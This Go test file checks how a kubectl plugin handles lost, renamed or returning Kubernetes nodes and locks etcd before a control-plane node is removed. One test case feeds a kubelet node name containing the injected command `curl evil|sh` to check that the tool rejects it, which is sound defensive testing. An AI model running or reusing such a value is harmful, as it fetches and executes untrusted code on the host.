// SPDX-License-Identifier: Apache-2.0

package lost

import (
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	coordinationv1 "k8s.io/api/coordination/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/client-go/kubernetes/fake"
	"k8s.io/client-go/rest"

	"github.com/kubectl-lifecycle/kubectl-lifecycle/pkg/clean/inventory"
	"github.com/kubectl-lifecycle/kubectl-lifecycle/pkg/flow"
	"github.com/kubectl-lifecycle/kubectl-lifecycle/pkg/flow/flowtest"
	"github.com/kubectl-lifecycle/kubectl-lifecycle/pkg/flow/liveness"
	"github.com/kubectl-lifecycle/kubectl-lifecycle/pkg/plan"
	"github.com/kubectl-lifecycle/kubectl-lifecycle/pkg/runner"
)

func TestANodeThatIsNotLostIsNotGivenUp(t *testing.T) {
	for name, tc := range map[string]struct {
		change func(*corev1.Node)
		denied []string
		says   string
	}{
		"its kubelet reports": {says: "is not lost: its kubelet reports"},
		"it is NotReady by its own word": {change: func(n *corev1.Node) { n.Status.Conditions[0].Status = corev1.ConditionFalse },
			says: "is not lost"},
		"the last control plane": {change: func(n *corev1.Node) { n.Labels["node-role.kubernetes.io/control-plane"] = "" },
			says: "is the only control-plane node"},
		"a k3s node": {change: func(n *corev1.Node) { n.Status.NodeInfo.KubeletVersion = "v1.36.1+k3s1" },
			says: "a k3s node"},
		"a missing verb": {denied: []string{"get leases"}, says: "get leases"},
	} {
		t.Run(name, func(t *testing.T) {
			node := flowtest.Worker()
			if tc.change != nil {
				tc.change(node)
			}
			client := flowtest.Permissive(t, tc.denied, []runtime.Object{node, flowtest.KubeadmConfig()}...)
			_, err := Prepare(t.Context(), runner.Cluster{Client: client}, "w1", Options{Timeout: time.Minute}, func(string, ...any) {})
			if plan.ClassOf(err) != plan.Refused || plan.HintOf(err) == "" || !strings.Contains(err.Error(), tc.says) {
				t.Errorf("error %v, hint %q", err, plan.HintOf(err))
			}
		})
	}
}

// Neither remove nor --node-lost nor inspect sends a person to the other of them when
// the host lives under another name.
func TestAHostThatWasRenamedIsSeenForWhatItIs(t *testing.T) {
	twin := flowtest.Hardware("renamed", "m s b ", "192.0.2.7")
	asleep := twin
	asleep.Status.Conditions = []corev1.NodeCondition{{Type: corev1.NodeReady, Status: corev1.ConditionUnknown}}
	summary := func(name string) string { return `{"node":{"nodeName":"` + name + `","cpu":{}},"pods":[{"cut` }
	for name, tc := range map[string]struct {
		other   *corev1.Node
		summary string
		code    int
		says    string
		hints   []string
	}{
		"it is another Node by now": {&twin, "", 503, "it is node renamed now (the same address 192.0.2.7",
			[]string{"kubectl delete node w1", "kubectl lifecycle remove renamed"}},
		"its kubelet has another name": {nil, summary("renamed"), 200, "calls itself renamed",
			[]string{"set-hostname w1", "--hostname-override", "kubectl delete node w1"}},
		"its kubelet looks for a Node of its name": {nil, `Internal Error: failed to get node info: node "renamed" not found`, 500,
			"calls itself renamed", []string{"set-hostname w1"}},
		"the other Node is as silent": {&asleep, summary("renamed"), 200, "calls itself renamed", []string{"set-hostname w1"}},
		"its kubelet has its name and is cut off": {nil, summary("w1"), 200, "has not reported to the API server",
			[]string{"journalctl -u kubelet", "switch it off first"}},
		"its kubelet does not tell its name": {nil, "Forbidden (user=x)", 403, "has not reported to the API server",
			[]string{"does the host have its old name"}},
		"its kubelet tells nonsense": {nil, summary(`w1; curl evil|sh`), 200, "has not reported", []string{"journalctl"}},
	} {
		t.Run(name, func(t *testing.T) {
			node := flowtest.SilentNode()
			full := flowtest.Hardware("w1", "m s b ", "192.0.2.7")
			node.Status.NodeInfo, node.Status.Addresses = full.Status.NodeInfo, full.Status.Addresses
			client := flowtest.Permissive(t, nil, node, flowtest.KubeadmConfig())
			if tc.other != nil {
				_ = client.Tracker().Add(tc.other)
			}
			cluster := clusterOf(client, func(r *http.Request) (*http.Response, error) {
				if strings.HasSuffix(r.URL.Path, "/nodes/w1/proxy/stats/summary") {
					return answer(tc.code, tc.summary), nil
				}
				return answer(200, "ok"), nil
			})
			for verb, ask := range map[string]func() error{
				"remove": func() error { _, err := flow.PrepareRemove(t.Context(), cluster, "w1", flow.Request{}); return err },
				"--node-lost": func() error {
					_, err := Prepare(t.Context(), cluster, "w1", Options{HostOff: true}, func(string, ...any) {})
					return err
				},
				"inspect": func() error {
					_, err := flow.Inspect(t.Context(), cluster, "w1", inventory.Choices{}, plan.Discard)
					return err
				},
			} {
				err := ask()
				if plan.ClassOf(err) != plan.Refused || !strings.Contains(err.Error(), tc.says) {
					t.Errorf("%s: %v", verb, err)
				}
				for _, hint := range tc.hints {
					if !strings.Contains(plan.HintOf(err), hint) {
						t.Errorf("%s: hint %q does not say %q", verb, plan.HintOf(err), hint)
					}
				}
			}
		})
	}
}

// transport is a server without a network.
type transport func(*http.Request) (*http.Response, error)

// RoundTrip answers.
func (f transport) RoundTrip(r *http.Request) (*http.Response, error) { return f(r) }

func answer(code int, body string) *http.Response {
	return &http.Response{StatusCode: code, Body: io.NopCloser(strings.NewReader(body)), Header: http.Header{}}
}

// clusterOf is a cluster whose kubelet on w1 answers by a function.
func clusterOf(client *fake.Clientset, answer transport) runner.Cluster {
	return runner.Cluster{Client: client, Config: &rest.Config{Host: "https://api.example", Transport: answer}}
}

// Between the look and the deed a person is asked, who may take an hour to answer: a host
// that comes back in that time is not given up.
func TestAHostThatComesBackBeforeTheDeedIsNotGivenUp(t *testing.T) {
	lease := func(at int64) *coordinationv1.Lease {
		return &coordinationv1.Lease{
			ObjectMeta: metav1.ObjectMeta{Name: "w1", Namespace: corev1.NamespaceNodeLease},
			Spec:       coordinationv1.LeaseSpec{RenewTime: &metav1.MicroTime{Time: time.Unix(at, 0)}},
		}
	}
	for name, tc := range map[string]struct {
		change func(*corev1.Node)
		lease  int64
		says   string
	}{
		"it is silent still":     {lease: 1},
		"it reports":             {func(n *corev1.Node) { n.Status.Conditions[0].Status = corev1.ConditionTrue }, 1, "its kubelet reports"},
		"it has joined again":    {func(n *corev1.Node) { n.UID = "2" }, 1, "is another one by now"},
		"it has renewed a lease": {nil, 2, "has written its lease"},
	} {
		t.Run(name, func(t *testing.T) {
			before := flowtest.SilentNode()
			before.UID = "1"
			client := flowtest.Permissive(t, nil, before, lease(1))
			cluster := runner.Cluster{Client: client}
			heard, err := liveness.Observe(t.Context(), cluster, before)
			if err != nil {
				t.Fatal(err)
			}
			node := before.DeepCopy()
			if tc.change != nil {
				tc.change(node)
			}
			for resource, object := range map[schema.GroupVersionResource]runtime.Object{
				corev1.SchemeGroupVersion.WithResource("nodes"): node, coordinationv1.SchemeGroupVersion.WithResource("leases"): lease(tc.lease),
			} {
				namespace := map[bool]string{true: corev1.NamespaceNodeLease}[resource.Resource == "leases"]
				if err := client.Tracker().Update(resource, object, namespace); err != nil {
					t.Fatal(err)
				}
			}
			client.ClearActions()
			l := &NodeLoss{Node: before, cluster: cluster, silence: heard, drain: &flow.Drain{Client: client, Nodes: []string{"w1"}}}
			first := l.Plan().Steps[0].Do(t.Context(), func(string, ...any) {})
			taint := l.taint(t.Context(), func(string, ...any) {})
			for _, err := range []error{first, taint} {
				if (err != nil) != (tc.says != "") || err != nil && (!strings.Contains(err.Error(), tc.says) || plan.HintOf(err) == "") {
					t.Errorf("got %v", err)
				}
			}
			for _, a := range client.Actions() {
				if tc.says != "" && a.GetVerb() != "get" && a.GetVerb() != "list" {
					t.Errorf("%s %s", a.GetVerb(), a.GetResource().Resource)
				}
			}
		})
	}
}

// Two control planes that go at the same time may take the quorum with them.
func TestAControlPlaneIsLockedBeforeItsMemberGoes(t *testing.T) {
	ids := func(survivor *corev1.Node) string {
		l := &NodeLoss{Node: flowtest.SilentNode(), survivor: survivor, drain: &flow.Drain{Nodes: []string{"w1"}}}
		return strings.Join(l.Plan().IDs(), " ")
	}
	if got, want := ids(flowtest.Worker()), "silence lock etcd cordon taint drain volumes node leftovers record unlock"; got != want {
		t.Errorf("a control plane: %s, want %s", got, want)
	}
	if got, want := ids(nil), "silence cordon taint drain volumes node leftovers record"; got != want {
		t.Errorf("a worker: %s, want %s", got, want)
	}
}
